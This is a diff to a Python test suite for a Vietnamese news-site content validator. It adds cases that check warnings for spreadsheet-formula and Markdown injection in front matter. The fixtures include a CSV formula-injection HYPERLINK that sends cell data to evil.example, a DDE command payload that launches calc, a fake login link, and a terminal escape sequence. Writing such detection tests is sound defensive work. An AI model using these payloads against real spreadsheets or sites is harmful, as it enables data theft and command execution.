@@ -358,7 +358,7 @@ CASES: tuple[Case, ...] = (
         "nfd",
         news("nfd", unicodedata.normalize("NFD", "Luật Đất đai năm 2024.\n")),
         (
-            "agencies/ha-noi/tin-tuc/nfd.md:5: cảnh báo [not-nfc] Chữ tiếng Việt được lưu ở dạng tổ hợp (NFD, dấu tách khỏi chữ) nên tìm kiếm và sắp xếp có thể sai; chạy 'python build.py validate --fix' để chuyển về dạng dựng sẵn (NFC).",
+            "agencies/ha-noi/tin-tuc/nfd.md:5: cảnh báo [not-nfc] Chữ tiếng Việt được lưu ở dạng tổ hợp (NFD, dấu tách khỏi chữ) nên tìm kiếm và sắp xếp có thể sai; chạy '.venv/bin/python build.py validate --fix' để chuyển về dạng dựng sẵn (NFC).",
         ),
     ),
     Case(
@@ -386,7 +386,7 @@ CASES: tuple[Case, ...] = (
         "zero-width",
         news("an", "Luật\u200b Đất đai\n"),
         (
-            "agencies/ha-noi/tin-tuc/an.md:5: cảnh báo [invisible-character] Ký tự ẩn U+200B ở 1 dòng (dòng 5), thường do sao chép từ trang khác; chạy 'python build.py validate --fix' để xóa.",
+            "agencies/ha-noi/tin-tuc/an.md:5: cảnh báo [invisible-character] Ký tự ẩn U+200B ở 1 dòng (dòng 5), thường do sao chép từ trang khác; chạy '.venv/bin/python build.py validate --fix' để xóa.",
         ),
     ),
     # 6. YAML that used to crash every command (round two).
@@ -397,14 +397,14 @@ CASES: tuple[Case, ...] = (
             "---\ntitle: Tin\x1b]52;c;ZXZpbA==\x07 mới\ndate: 2026-11-20\n---\n",
         ),
         (
-            "agencies/ha-noi/tin-tuc/dieu-khien.md:2: lỗi [control-character] Ký tự điều khiển U+0007, U+001B ở 1 dòng (dòng 2), không phải chữ và làm hỏng trang, nguồn tin, tệp dữ liệu; thường do sao chép từ phần mềm khác. Chạy 'python build.py validate --fix' để xóa, hoặc gõ lại dòng đó (control characters).",
+            "agencies/ha-noi/tin-tuc/dieu-khien.md:2: lỗi [control-character] Ký tự điều khiển U+0007, U+001B ở 1 dòng (dòng 2), không phải chữ và làm hỏng trang, nguồn tin, tệp dữ liệu; thường do sao chép từ phần mềm khác. Chạy '.venv/bin/python build.py validate --fix' để xóa, hoặc gõ lại dòng đó (control characters).",
         ),
     ),
     Case(
         "yaml-nul",
         text(f"{NEWS}/nul.md", "---\ntitle: Tin\x00 mới\ndate: 2026-11-20\n---\nNội dung.\n"),
         (
-            "agencies/ha-noi/tin-tuc/nul.md:2: lỗi [control-character] Ký tự điều khiển U+0000 ở 1 dòng (dòng 2), không phải chữ và làm hỏng trang, nguồn tin, tệp dữ liệu; thường do sao chép từ phần mềm khác. Chạy 'python build.py validate --fix' để xóa, hoặc gõ lại dòng đó (control characters).",
+            "agencies/ha-noi/tin-tuc/nul.md:2: lỗi [control-character] Ký tự điều khiển U+0000 ở 1 dòng (dòng 2), không phải chữ và làm hỏng trang, nguồn tin, tệp dữ liệu; thường do sao chép từ phần mềm khác. Chạy '.venv/bin/python build.py validate --fix' để xóa, hoặc gõ lại dòng đó (control characters).",
         ),
     ),
     Case(
@@ -610,6 +610,31 @@ CASES: tuple[Case, ...] = (
         news("dinh-nghia", "".join(f"T{i}\n: D{i}\n" for i in range(700))),
         (
             'agencies/ha-noi/tin-tuc/dinh-nghia.md:5: lỗi [markdown-too-deep] Danh sách định nghĩa bắt đầu ở dòng này có hơn 100 dòng bắt đầu bằng ": "; hãy chia thành nhiều danh sách bằng dòng trống.',
+        ),
+    ),
+    # 14. Text shown as written: spreadsheet formulas and markup in front matter.
+    Case(
+        "csv-formula",
+        text(
+            "agencies/nghe-an/tin-tuc/cong-thuc.md",
+            '---\ntitle: \'=HYPERLINK("https://evil.example/?d="&A2,"Xem kết quả chấm thi")\'\n'
+            "date: 2026-11-20\ntags: [\"+cmd|' /C calc'!A0\"]\n---\nNội dung.\n",
+        ),
+        (
+            'agencies/nghe-an/tin-tuc/cong-thuc.md:2: cảnh báo [formula-like-text] Trường "title" (Tiêu đề) bắt đầu bằng =, +, - hoặc @, như một công thức bảng tính; trong tệp dữ liệu mở (CSV) nó được ghi thành chữ có dấu \' ở đầu. Bỏ ký tự đó ở đầu nếu không cần (looks like a spreadsheet formula).',
+            'agencies/nghe-an/tin-tuc/cong-thuc.md:2: cảnh báo [markup-in-plain-text] Trường "title" (Tiêu đề) là chữ thường, không định dạng, nhưng có địa chỉ web: trang sẽ hiện nguyên các ký tự này. Viết chữ thường, đưa liên kết và định dạng vào phần nội dung (markup shown as written).',
+            'agencies/nghe-an/tin-tuc/cong-thuc.md:4: cảnh báo [formula-like-text] Trường "tags" (Từ khóa) bắt đầu bằng =, +, - hoặc @, như một công thức bảng tính; trong tệp dữ liệu mở (CSV) nó được ghi thành chữ có dấu \' ở đầu. Bỏ ký tự đó ở đầu nếu không cần (looks like a spreadsheet formula).',
+        ),
+    ),
+    Case(
+        "markdown-in-title",
+        text(
+            "agencies/nghe-an/tin-tuc/tieu-de-dinh-dang.md",
+            "---\ntitle: '**Khẩn** [đăng nhập](https://evil.example/dang-nhap) @bo-tu-phap'\n"
+            "date: 2026-11-20\n---\nNội dung.\n",
+        ),
+        (
+            'agencies/nghe-an/tin-tuc/tieu-de-dinh-dang.md:2: cảnh báo [markup-in-plain-text] Trường "title" (Tiêu đề) là chữ thường, không định dạng, nhưng có chữ đậm hay gạch ngang kiểu Markdown, liên kết kiểu Markdown [chữ](địa chỉ), tên tài khoản @…, địa chỉ web: trang sẽ hiện nguyên các ký tự này. Viết chữ thường, đưa liên kết và định dạng vào phần nội dung (markup shown as written).',
         ),
     ),
 )
